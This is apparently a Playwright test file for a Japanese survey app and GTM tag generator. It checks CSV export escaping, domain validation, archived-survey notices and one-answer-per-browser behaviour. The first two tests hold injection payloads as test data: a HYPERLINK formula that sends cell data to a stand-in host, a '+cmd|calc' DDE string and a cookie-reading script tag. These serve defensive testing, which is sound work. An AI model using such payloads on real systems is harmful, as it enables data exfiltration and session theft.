import { readFile } from 'node:fs/promises';
import { expect, test } from '@playwright/test';
import { demoOrigin, signIn } from './support';

/** what strangers send must not turn into formulas, markup or GTM variables. */
const SURVEY = 'seed-survey-satisfaction';

test('a formula answer from the public page is exported neutralised in the CSV', async ({
  page,
}) => {
  // Same origin as the admin app: the local backend keeps data per origin.
  await page.goto(`${demoOrigin}/survey/${SURVEY}`);
  await page.getByLabel('お名前').fill('=HYPERLINK("http://x.example/?"&A1,"x")');
  await page.getByLabel('会社名').fill('+cmd|calc');
  await page.getByLabel('メールアドレス').fill('e2e@example.com');
  await page.getByRole('radiogroup', { name: 'ご利用中のプラン' }).getByLabel('プレミアム').check();
  await page.getByRole('radiogroup', { name: '総合満足度' }).getByLabel('4').check({ force: true });
  await page.getByLabel('利用人数').fill('3');
  await page.getByLabel('ご意見・ご要望').fill('－１＋１');
  await page.getByRole('button', { name: '送信する' }).click();
  await expect(page.getByRole('heading', { name: 'Submission complete' })).toBeVisible();

  await signIn(page);
  await page.goto(`${demoOrigin}/surveys/${SURVEY}/results`);
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'CSVエクスポート' }).click(),
  ]);
  const text = (await readFile((await download.path())!)).subarray(3).toString('utf8');
  const newest = text.split('\r\n')[1]!;
  const cells = newest.slice(1, -1).split('","');
  expect(cells[1]).toBe(`'=HYPERLINK(""http://x.example/?""&A1,""x"")`);
  expect(cells[2]).toBe(`'+cmd|calc`);
  expect(cells[3]).toBe('e2e@example.com');
  expect(cells[8]).toBe('3');
  expect(cells[10]).toBe(`'－１＋１`);
});

test('the GTM form refuses a delivery domain that is not a host name', async ({ page }) => {
  await signIn(page);
  await page.goto(`${demoOrigin}/gtm`);
  await expect(
    page.getByText(/インポート方法: GTM の「管理」→「コンテナをインポート」/),
  ).toBeVisible();
  await page.getByRole('textbox', { name: 'タグ名（タグセット 1）' }).fill('資料請求');
  await page.getByRole('textbox', { name: 'タグセット 1 TOPページURL 1' }).fill('https://a.jp/');
  await page
    .getByRole('textbox', { name: 'タグセット 1 入力ページURL 1' })
    .fill('https://a.jp/form');
  await page
    .getByRole('textbox', { name: 'タグセット 1 サンクスページURL 1' })
    .fill('https://a.jp/thanks');
  await page.getByRole('radio', { name: 'はい' }).check();
  await page.getByRole('combobox', { name: 'OEM名' }).selectOption('ネクストリンク');
  const domain = page.getByRole('textbox', { name: 'タグ配信用ドメイン' });
  await domain.fill('tags.nextlink.jp"><script>alert(document.cookie)</script>');
  await domain.blur();
  await expect(
    page.getByText(
      'タグ配信用ドメインはホスト名で入力してください（例: tag.partner.co.jp、tag.partner.co.jp:8443）',
    ),
  ).toBeVisible();
  await expect(domain).toHaveAttribute('aria-invalid', 'true');
  await expect(page.getByTestId('gtm-json')).toHaveCount(0);
  await expect(page.getByRole('button', { name: 'ダウンロード' })).toBeDisabled();

  await domain.fill('tags.nextlink.jp:8443');
  await expect(page.getByTestId('gtm-json')).toContainText(
    '<script async src=\\"https://tags.nextlink.jp:8443/view.js?tag=',
  );
});

test('an archived survey shows the not-published notice instead of the form', async ({ page }) => {
  // The seed's archived survey is also closed: the archive wins over "終了しました".
  await page.goto(`${demoOrigin}/survey/seed-survey-archived`);
  await expect(page.getByText('このアンケートは現在公開されていません')).toBeVisible();
  await expect(page.getByRole('button', { name: '送信する' })).toHaveCount(0);
});

test('one answer per browser: the same browser then sees a notice with a link to its result', async ({
  page,
}) => {
  await signIn(page);
  await page.goto(`${demoOrigin}/surveys/${SURVEY}/edit`);
  await page.getByRole('button', { name: '設定' }).click();
  const settings = page.getByRole('dialog', { name: 'アンケート設定' });
  const once = settings.getByLabel('同じブラウザからの回答は1回までにする');
  await expect(once).not.toBeChecked();
  await once.check();
  await settings.getByRole('button', { name: '閉じる' }).first().click();
  await page.getByRole('button', { name: '更新' }).click();
  await expect(page.getByText('アンケートを更新しました')).toBeVisible();

  await page.goto(`${demoOrigin}/survey/${SURVEY}`);
  await page.getByLabel('お名前').fill('一度だけ');
  await page.getByLabel('会社名').fill('株式会社テスト');
  await page.getByLabel('メールアドレス').fill('once@example.com');
  await page.getByRole('radiogroup', { name: 'ご利用中のプラン' }).getByLabel('プレミアム').check();
  await page.getByRole('radiogroup', { name: '総合満足度' }).getByLabel('5').check({ force: true });
  await page.getByRole('button', { name: '送信する' }).click();
  await expect(page.getByRole('heading', { name: 'Submission complete' })).toBeVisible();
  const resultUrl = page.url();

  await page.goto(`${demoOrigin}/survey/${SURVEY}`);
  await expect(
    page.getByText(
      'このブラウザからはすでに回答をいただいています。ご協力ありがとうございました。',
    ),
  ).toBeVisible();
  await expect(page.getByRole('button', { name: '送信する' })).toHaveCount(0);
  await page.getByRole('link', { name: '送信した回答と集計結果を見る' }).click();
  await expect(page).toHaveURL(resultUrl);
  await expect(page.getByText('一度だけ')).toBeVisible();

  // Another tab of this browser (the next person at a shared device): the notice, but no link
  // to the previous respondent's answers.
  const next = await page.context().newPage();
  await next.goto(`${demoOrigin}/survey/${SURVEY}`);
  await expect(
    next.getByText(
      'このブラウザからはすでに回答をいただいています。ご協力ありがとうございました。',
    ),
  ).toBeVisible();
  await expect(next.getByRole('link', { name: '送信した回答と集計結果を見る' })).toHaveCount(0);
});
